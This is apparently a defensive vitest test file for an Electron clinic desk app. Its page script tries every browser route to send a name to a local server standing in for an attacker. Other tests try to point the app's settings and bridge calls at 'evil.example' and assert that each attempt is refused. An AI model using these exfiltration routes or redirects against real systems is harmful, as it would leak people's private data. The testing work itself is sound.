import { createSocket } from 'node:dgram';
import { once } from 'node:events';
import type { AddressInfo } from 'node:net';
import { createServer } from 'node:net';
import { afterAll, beforeAll, expect, it } from 'vitest';
import { pipeName } from '../../shared/bridge/pipe.ts';
import { deskUnderTest } from './desk-under-test.ts';

/**
 * A page of the built program in which an attacker's script runs, against everything that stands around it. What guard.ts asks
 * of Electron's session and page is given to Chromium as switches; that Foyer asks for it is in guard.test.ts, also that no
 * name of a host is resolved, which cannot be seen from outside.
 */
const desk = deskUnderTest({
  chromium: [
    '--proxy-server=127.0.0.1:9',
    // The stand-in serves the page itself on loopback.
    '--proxy-bypass-list=<-loopback>;http://127.0.0.1;ws://127.0.0.1',
    '--force-webrtc-ip-handling-policy=disable_non_proxied_udp',
    '--webrtc-ip-handling-policy=disable_non_proxied_udp',
  ],
});

/** What arrived at the attacker's server, by each way in. */
const arrived: string[] = [];
const tcp = createServer((socket) => {
  arrived.push('tcp');
  socket.destroy();
});
const udp = createSocket('udp4');
udp.on('message', () => arrived.push('udp'));
let port = { tcp: 0, udp: 0 };

beforeAll(async () => {
  tcp.listen(0, '127.0.0.1');
  udp.bind(0, '127.0.0.1');
  await Promise.all([once(tcp, 'listening'), once(udp, 'listening')]);
  port = { tcp: (tcp.address() as AddressInfo).port, udp: udp.address().port };
});
afterAll(() => {
  tcp.close();
  udp.close();
});

/** Each way out that a page has, tried to the end. Text, as everything that runs in the page. */
const everyWayOut = (there: number, stun: number) => `(async () => {
  const outside = 'http://127.0.0.1:${there}/?name=Margaret';
  const outcomes = {};
  const attempt = async (way, go) => {
    try {
      await go();
      outcomes[way] = 'went';
    } catch {
      outcomes[way] = 'refused';
    }
  };
  const loaded = (element) =>
    new Promise((done, failed) => {
      element.addEventListener('load', done);
      element.addEventListener('error', failed);
      document.body.append(element);
    });
  await attempt('fetch', () => fetch(outside, { mode: 'no-cors' }));
  await attempt('picture', () => loaded(Object.assign(new Image(), { src: outside })));
  await attempt('script', () => loaded(Object.assign(document.createElement('script'), { src: outside })));
  await attempt('style', () =>
    loaded(Object.assign(document.createElement('link'), { rel: 'stylesheet', href: outside })));
  await attempt('socket', () =>
    new Promise((done, failed) => {
      const socket = new WebSocket(outside.replace('http', 'ws'));
      socket.onopen = done;
      socket.onerror = failed;
    }));
  await attempt('worker', () => new Worker(outside));
  await attempt('service worker', () => navigator.serviceWorker.register(outside));
  await attempt('request', () =>
    new Promise((done, failed) => {
      const request = new XMLHttpRequest();
      request.onload = done;
      request.onerror = failed;
      request.open('GET', outside);
      request.send();
    }));
  await attempt('events', () =>
    new Promise((done, failed) => {
      const events = new EventSource(outside);
      events.onopen = done;
      events.onerror = () => { events.close(); failed(); };
    }));
  await attempt('transport', () => new WebTransport(outside.replace('http', 'https')).ready);
  await attempt('sound', () => new Promise((done, failed) => {
    const sound = new Audio(outside);
    sound.oncanplay = done;
    sound.onerror = failed;
    sound.load();
  }));
  await attempt('film', () => new Promise((done, failed) => {
    const film = Object.assign(document.createElement('video'), { poster: outside, src: outside });
    film.oncanplay = done;
    film.onerror = failed;
    document.body.append(film);
    film.load();
  }));
  await attempt('object', () => loaded(Object.assign(document.createElement('object'), { data: outside })));
  for (const rel of ['preconnect', 'prefetch', 'preload', 'modulepreload', 'manifest', 'icon'])
    document.head.append(Object.assign(document.createElement('link'), { rel, as: 'fetch', href: outside }));
  document.body.style.backgroundImage = 'url(' + outside + ')';
  // None of these reports what became of it: the server at the other end does.
  document.body.append(Object.assign(document.createElement('iframe'), { src: outside }));
  await attempt('embed', () => Object.assign(document.createElement('embed'), { src: outside }));
  outcomes['window'] = window.open(outside) === null ? 'refused' : 'went';
  const form = Object.assign(document.createElement('form'), { action: outside, method: 'post' });
  document.body.append(form);
  form.submit();
  form.target = '_blank';
  form.submit();
  const anchor = Object.assign(document.createElement('a'), { href: outside, ping: outside });
  document.body.append(anchor);
  anchor.click();
  location.href = outside;
  navigator.sendBeacon(outside);
  const connection = new RTCPeerConnection({
    iceServers: [
      { urls: 'stun:127.0.0.1:${stun}' },
      { urls: 'turn:127.0.0.1:${there}?transport=tcp', username: 'Margaret', credential: 'x' },
    ],
  });
  connection.createDataChannel('out');
  const candidates = [];
  const gathered = new Promise((done) => {
    connection.onicecandidate = ({ candidate }) => {
      if (candidate) candidates.push(candidate.candidate);
      else done();
    };
  });
  await connection.setLocalDescription(await connection.createOffer());
  await gathered;
  connection.close();
  return { outcomes, candidates };
})()`;

it('sends nothing out by any way that a page has', async () => {
  const tried = await desk.page.evaluate(everyWayOut(port.tcp, port.udp));
  const refused = 'refused';
  expect(tried).toEqual({
    outcomes: {
      fetch: refused,
      picture: refused,
      script: refused,
      style: refused,
      socket: refused,
      worker: refused,
      'service worker': refused,
      request: refused,
      events: refused,
      transport: refused,
      sound: refused,
      film: refused,
      object: refused,
      embed: refused,
      window: refused,
    },
    candidates: [],
  });
  // The page is still there, and has gone nowhere.
  expect(await desk.page.evaluate("document.querySelector('nav') !== null && location.pathname")).toContain(
    'index.html',
  );
  expect(arrived).toEqual([]);
});

/** What makes markup, a script or a policy of a text, and what only shows one. */
const everyText = `(() => {
  const outcome = (act) => {
    try {
      act();
      return 'done';
    } catch (error) {
      return error instanceof Error ? error.name : 'refused';
    }
  };
  const place = document.createElement('div');
  const script = document.createElement('script');
  return {
    markup: outcome(() => { place.innerHTML = '<img src="x" onerror="0">'; }),
    frame: outcome(() => { document.createElement('iframe').srcdoc = '<p>'; }),
    script: outcome(() => { script.text = '0'; }),
    address: outcome(() => { script.src = 'data:text/javascript,0'; }),
    policy: outcome(() => trustedTypes.createPolicy('mine', { createHTML: String })),
    another: outcome(() => trustedTypes.createPolicy('default', { createHTML: String })),
    text: outcome(() => { place.innerHTML = 'a text'; }),
  };
})()`;

it('makes no markup and no script of a text, and no policy of its own', async () => {
  expect(await desk.page.evaluate(everyText)).toEqual({
    markup: 'TypeError',
    frame: 'TypeError',
    script: 'TypeError',
    address: 'TypeError',
    policy: 'TypeError',
    another: 'TypeError',
    text: 'done',
  });
});

/** What any script in the page can do. */
const call = (name: string, input: object) =>
  desk.page.evaluate(
    ([pipe, called, given]) =>
      (globalThis as unknown as Record<string, { invoke(name: string, input: object): Promise<unknown> }>)[
        pipe
      ]?.invoke(called, given),
    [pipeName, name, input] as const,
  );

it('names no address and no file to the bridge, and cannot remove this PC', async () => {
  const entered = { baseUrl: 'https://evil.example/v1', apiKey: 'PHI', caFile: null };
  const refused = { ok: false, failure: { kind: 'stale' } };
  expect(await call('setup.test', entered)).toMatchObject(refused);
  expect(await call('setup.connect', { ...entered, memoryOnly: false })).toMatchObject(refused);
  const removing = call('pc.remove', { evenIfWaiting: true });
  await expect.poll(() => desk.foyer.act('dialog.list', null)).toEqual(['message']);
  // On top of the desk: it can lie behind nothing.
  expect(await desk.foyer.act('dialog.owned', null)).toBe(true);
  await desk.foyer.act('dialog.answer', { paths: [] });
  expect(await removing).toMatchObject({ ok: true, value: { phase: 'ready' } });
});

it('names no authority, no folder and no hub, and deletes no scan, without a person outside the page', async () => {
  const refused = async (name: string, input: object) => {
    const answer = call(name, input);
    await expect.poll(() => desk.foyer.act('dialog.list', null)).toHaveLength(1);
    await desk.foyer.act('dialog.answer', { paths: [] });
    return await answer;
  };
  const before = await call('settings.read', {});
  const changed = await call('settings.change', { scanFolder: '/etc' });
  expect(changed).not.toMatchObject({ ok: true, value: { scanFolder: '/etc' } });
  await refused('settings.change', { deleteScansAfterDays: 1 });
  await refused('settings.change', {
    practicePages: { patient: 'https://evil.example/{id}', appointment: null, invoice: null },
  });
  expect(await call('settings.read', {})).toEqual(before);
  const entered = { address: 'evil.example', code: '7KQ2-M9XD-4TVB-R0HC', name: 'Desk 2', role: 'reception' };
  const alone = { ok: true, value: { is: 'none' } };
  expect(await refused('clinic.join', entered)).toMatchObject(alone);
  expect(await refused('clinic.rejoin', { address: 'evil.example' })).toMatchObject(alone);
  expect(await refused('clinic.takeOver', {})).toMatchObject(alone);
  expect(await refused('clinic.move', { desk: 'd02' })).toMatchObject(alone);
  expect(await refused('clinic.remove', { desk: 'd02' })).toMatchObject(alone);
  expect(await refused('clinic.leave', {})).toMatchObject(alone);
});
